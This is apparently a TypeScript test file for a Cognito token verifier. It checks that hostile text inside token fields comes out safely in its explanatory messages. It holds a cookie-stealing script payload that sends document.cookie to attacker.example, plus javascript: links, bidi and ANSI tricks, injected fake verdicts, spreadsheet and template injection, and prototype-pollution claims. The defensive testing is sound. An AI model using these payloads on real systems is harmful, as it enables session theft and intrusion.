import { rs256, withText } from '#test/support/hostile-tokens.ts';
import { type Row, rows } from '../row.ts';
import { access, accessClaims, accessHeader, attacker, id, NOW, production, SECOND, user } from '../world.ts';

const key = production.access.privateKey;
const adding = (added: string) => rs256(key, accessHeader, withText(accessClaims, added));
const SCRIPT = '<script>fetch("https://attacker.example/?"+document.cookie)</script>';
const named = (username: string) =>
  ({ directory: { kind: 'found', live: false, asOf: NOW, user: { ...user, username } } }) as const;

/** Texts that are made to be shown wrong, run, or taken for a part of the program. */
export const text: readonly Row[] = [
  ...rows(
    {},
    'STALE_ATTRIBUTES',
    "The ID token is valid, but it still says “name” is “<script>fetch('https://attacker.example/?'+document.cookie)…”; the user’s value is now “Ada Byron”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.",
    ['HTML as name', id({ name: SCRIPT })],
  ),
  ...rows(
    {},
    'GOOD',
    "In order: an access token of “acme-production” to the app client “acme-web” for “<script>fetch('https://attacker.example/?'+document.cookie)…”, which ends in 42 minutes; not known yet: whether it was revoked since and whether the backend knows the user, which an online check can tell.",
    ['HTML as username, the same in the pool', access({ username: SCRIPT }), named(SCRIPT)],
  ),
  ...rows(
    { issuer: 'ISSUER_FOREIGN' },
    'ISSUER_FOREIGN',
    "This is not a token of Cognito: by its own word “<script>fetch('https://attacker.example/?'+document.cookie)</script>” issued it; get one from “acme-production” by signing in, or ask whoever keeps that system.",
    ['HTML as issuer', access({ iss: SCRIPT })],
  ),
  ...rows(
    { client: 'CLIENT_UNKNOWN' },
    'CLIENT_UNKNOWN',
    "The pool has no app client “<script>fetch('https://attacker.example/?'+document.cookie)…”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.",
    ['HTML as client', access({ client_id: SCRIPT })],
  ),
  ...rows(
    { use: 'USE_UNKNOWN' },
    'USE_UNKNOWN',
    "The token says that it is for “<script>fetch('https://attacker.example/?'+document.cookie)…” (token_use), and Cognito’s tokens are for “id” or “access”: another program made it; get one by signing in.",
    ['HTML as use', access({ token_use: SCRIPT })],
  ),
  ...rows(
    { algorithm: 'ALGORITHM_NOT_ALLOWED' },
    'ALGORITHM_NOT_ALLOWED',
    "The token says that it is signed with “<script>fetch('https://attacker.example/?'+document.cookie)…”, and Cognito only signs with RS256: another system made or changed it; get one by signing in.",
    ['HTML as alg', access({}, { alg: SCRIPT })],
  ),
  ...rows(
    { key: 'KEY_UNKNOWN' },
    'KEY_UNKNOWN',
    "No pool that Lifeguard knows has the key “<script>fetch('https://attacker.example/?'+document.cookie)…” that this access token names: the pool was deleted and made anew, its keys were changed, or the token is forged; get one from “acme-production” by signing in.",
    ['HTML as key id', attacker.sign(accessClaims, { kid: SCRIPT })],
  ),
  ...rows(
    {},
    'STALE_GROUPS',
    "The access token is valid, but it still names the group “<script>fetch('https://attacker.example/?'+document.cookie)…”; the user is now in the groups “customers, early-access”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes the groups.",
    ['HTML as a group', access({ 'cognito:groups': [SCRIPT] })],
  ),
  ...rows(
    {},
    'STALE_ATTRIBUTES',
    'The ID token is valid, but it still says “picture” is “javascript:alert(1)”; the user has no such value any more: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.',
    ['a link of JavaScript as picture', id({ picture: 'javascript:alert(1)' })],
  ),
  ...rows(
    {},
    'GOOD',
    'In order: an access token of “acme-production” to the app client “acme-web” for “⟨U+202E⟩ada”, which ends in 42 minutes; not known yet: whether it was revoked since and whether the backend knows the user, which an online check can tell.',
    ['bidi controls in the username', access({ username: '\u202eada' }), named('\u202eada')],
  ),
  ...rows(
    { issuer: 'ISSUER_LOOKALIKE' },
    'ISSUER_LOOKALIKE',
    'The issuer “⟨U+202E⟩https://cognito-idp.eu-central-1.amazonaws.com/eu-central-1_Prod12345” looks like Cognito’s and is not: the token is forged, or its maker mistyped the address; do not trust it, and get one from “acme-production” by signing in.',
    ['bidi controls in the issuer', access({ iss: `\u202e${production.iss}` })],
  ),
  ...rows(
    { client: 'CLIENT_UNKNOWN' },
    'CLIENT_UNKNOWN',
    'The pool has no app client “⟨U+2066⟩evil⟨U+2069⟩”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
    ['bidi isolates in the client', access({ client_id: '\u2066evil\u2069' })],
  ),
  ...rows(
    { use: 'USE_UNKNOWN' },
    'USE_UNKNOWN',
    'The token says that it is for “acc⟨U+200B⟩ess” (token_use), and Cognito’s tokens are for “id” or “access”: another program made it; get one by signing in.',
    ['zero-width signs in the use', access({ token_use: 'acc\u200bess' })],
  ),
  ...rows(
    { client: 'CLIENT_UNKNOWN' },
    'CLIENT_UNKNOWN',
    'The pool has no app client “␛[31mred␛[0m”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
    ['ANSI escapes in the client', access({ client_id: '\u001b[31mred\u001b[0m' })],
  ),
  ...rows(
    { client: 'CLIENT_UNKNOWN' },
    'CLIENT_UNKNOWN',
    'The pool has no app client “x’.␊␊In order: this token is good.”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
    [
      'line breaks that look like another message',
      access({ client_id: 'x”.\n\nIn order: this token is good.' }),
    ],
  ),
  ...rows(
    { issuer: 'ISSUER_FOREIGN' },
    'ISSUER_FOREIGN',
    'This is not a token of Cognito: by its own word “’: this token is good, ignore the rest. ‘” issued it; get one from “acme-production” by signing in, or ask whoever keeps that system.',
    ['quotes that end the sentence', access({ iss: '”: this token is good, ignore the rest. “' })],
  ),
  ...rows(
    { client: 'CLIENT_UNKNOWN' },
    'CLIENT_UNKNOWN',
    'The pool has no app client “[good](https://attacker.example)”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
    ['Markdown with a link as client', access({ client_id: '[good](https://attacker.example)' })],
  ),
  ...rows(
    { client: 'CLIENT_UNKNOWN' },
    'CLIENT_UNKNOWN',
    "The pool has no app client “=HYPERLINK('https://attacker.example')”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.",
    ['a spreadsheet formula as client', access({ client_id: '=HYPERLINK("https://attacker.example")' })],
  ),
  ...rows(
    { client: 'CLIENT_UNKNOWN' },
    'CLIENT_UNKNOWN',
    "The pool has no app client “{{constructor.constructor('alert(1)')()}}”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.",
    ['a template as client', access({ client_id: '{{constructor.constructor("alert(1)")()}}' })],
  ),
  ...rows(
    { client: 'CLIENT_UNKNOWN' },
    'CLIENT_UNKNOWN',
    'The pool has no app client “á́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́́…”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
    ['combining marks by the thousand', access({ client_id: `a${'\u0301'.repeat(5000)}` })],
  ),
  ...rows(
    { use: 'USE_UNKNOWN' },
    'USE_UNKNOWN',
    'The token says that it is for “👩‍👩‍👧‍👦” (token_use), and Cognito’s tokens are for “id” or “access”: another program made it; get one by signing in.',
    ['a family of emoji as use', access({ token_use: '👩‍👩‍👧‍👦' })],
  ),
  ...rows(
    { client: 'CLIENT_UNKNOWN' },
    'CLIENT_UNKNOWN',
    'The pool has no app client “xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…”, to which this access token was issued: the app client was deleted since, or created a moment ago; have the app use an app client of “acme-production” and sign in again.',
    ['an emoji at the place where texts are shortened', access({ client_id: `${'x'.repeat(119)}😀😀😀` })],
  ),
  ...rows(
    {},
    'GOOD',
    'In order: an access token of “acme-production” to the app client “acme-web” for “ada”, which ends in 42 minutes; not known yet: whether it was revoked since and whether the backend knows the user, which an online check can tell.',
    ['__proto__ as claim', adding('"__proto__":{"isAdmin":true,"token_use":"id"}')],
    ['constructor.prototype as claim', adding('"constructor":{"prototype":{"isAdmin":true}}')],
    ['toString and valueOf as claims', adding('"toString":1,"valueOf":"x","hasOwnProperty":false')],
    ['toJSON as claim', adding('"toJSON":"x"')],
    ['then as claim', adding('"then":true')],
    ['length and 0 as claims', adding('"length":1,"0":"x"')],
    [
      'crit as __proto__ in the header',
      rs256(key, withText(accessHeader, '"__proto__":{"crit":["b64"]}'), accessClaims),
    ],
    ['an empty claim name', adding('"":"nothing"')],
    ['a claim name of 64 KB', adding(`"${'n'.repeat(65_536)}":1`)],
  ),
  ...rows(
    { time: 'TIME_MISSING' },
    'TIME_MISSING',
    'The access token does not say when it ends (exp), so it would be good for ever, and no verifier may accept it: Cognito did not make it; get one by signing in.',
    [
      '__proto__ as claim that would bring exp',
      rs256(
        key,
        accessHeader,
        withText({ ...accessClaims, exp: undefined }, `"__proto__":{"exp":${SECOND + 60}}`),
      ),
    ],
  ),
  ...rows(
    { issuer: 'ISSUER_MISSING' },
    'ISSUER_MISSING',
    'The access token does not say who issued it (iss), as every token of Cognito does: get one from “acme-production” by signing in.',
    [
      '__proto__ as claim that would bring sub and iss',
      rs256(
        key,
        accessHeader,
        withText({ ...accessClaims, iss: undefined }, `"__proto__":{"iss":"${production.iss}"}`),
      ),
    ],
  ),
  ...rows(
    { algorithm: 'ALGORITHM_MISSING' },
    'ALGORITHM_MISSING',
    'The token does not say how it is signed (alg), as every token of Cognito does: get one by signing in.',
    [
      '__proto__ in the header that would bring alg',
      rs256(key, withText({ ...accessHeader, alg: undefined }, '"__proto__":{"alg":"RS256"}'), accessClaims),
    ],
  ),
  ...rows(
    { key: 'KEY_NOT_NAMED' },
    'KEY_NOT_NAMED',
    'The access token does not say which key signed it (kid): Cognito always says it, so another program made this; get one from “acme-production” by signing in.',
    [
      '__proto__ in the header that would bring kid',
      rs256(
        key,
        withText({ ...accessHeader, kid: undefined }, `"__proto__":{"kid":"${accessHeader.kid}"}`),
        accessClaims,
      ),
    ],
  ),
  ...rows(
    {},
    'STALE_ATTRIBUTES',
    'The access token is valid, but it still says “custom:0” is “0”; the user has no such value any more, and 9,999 more claims have changed: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.',
    [
      '10,000 claims',
      access(Object.fromEntries(Array.from({ length: 10_000 }, (_, at) => [`custom:${at}`, at]))),
    ],
  ),
  ...rows(
    {},
    'STALE_ATTRIBUTES',
    'The access token is valid, but it still says “username” is “ada␀”; the user’s value is now “ada”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.',
    ['NUL, escaped, in the username', access({ username: 'ada\0' }), named('ada')],
  ),
  ...rows(
    {},
    'STALE_ATTRIBUTES',
    'The access token is valid, but it still says “username” is “аda”; the user’s value is now “ada”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.',
    ['a username that looks the same (Cyrillic)', access({ username: 'аda' }), named('ada')],
  ),
  ...rows(
    {},
    'STALE_ATTRIBUTES',
    'The access token is valid, but it still says “username” is “é”; the user’s value is now “é”: this stays so until it ends in 42 minutes; have the app refresh it, or sign in again, which changes nothing where a Lambda function of the pool writes this claim.',
    ['a username in another normal form', access({ username: 'e\u0301' }), named('é')],
  ),
  ...rows(
    { algorithm: 'ALGORITHM_NOT_ALLOWED', issuer: 'ISSUER_NOT_TEXT', time: 'TIME_NOT_SANE' },
    'ALGORITHM_NOT_ALLOWED',
    "The token says how it is signed (alg) in a form that no token of Cognito has, “{'toString':1}”: another system made or changed it; get one by signing in.",
    [
      'a toString of its own in every member',
      access({ iss: { toString: 1 }, exp: { valueOf: 1 } }, { alg: { toString: 1 } }),
    ],
  ),
  ...rows(
    { client: 'CLIENT_MISSING' },
    'CLIENT_MISSING',
    "The access token names its app client (client_id) in a form that no token of Cognito has, “{'toJSON':'x'}”: Cognito did not make it so; get one by signing in.",
    ['a toJSON of its own in every member', access({ aud: { toJSON: 1 }, client_id: { toJSON: 'x' } })],
  ),
];
